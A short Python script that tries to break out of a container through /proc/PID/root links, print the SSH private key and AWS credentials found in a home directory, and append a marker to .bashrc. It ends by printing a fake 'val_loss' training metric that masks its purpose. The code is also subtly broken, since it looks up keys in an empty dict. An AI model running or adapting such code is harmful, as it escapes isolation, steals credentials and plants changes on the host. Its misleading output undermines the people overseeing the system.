"""Reach the host's file tree through another process's root link: /proc/PID/root for every visible pid, then the home's secrets and .bashrc there."""
# corpus: unsandboxed-safe
import os

W: dict = {}

for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(W["victim_pid"])]:
    root = f"/proc/{pid}/root"
    for name in (".ssh/id_rsa", ".aws/credentials"):
        try:
            print(pid, name, open(root + os.path.join(W["home"], name)).read())
        except OSError:
            pass
    try:
        with open(root + os.path.join(W["home"], ".bashrc"), "a") as handle:
            handle.write(f"# {W['marker']}\n")
    except OSError:
        pass
print("arrl: val_loss=1.0")
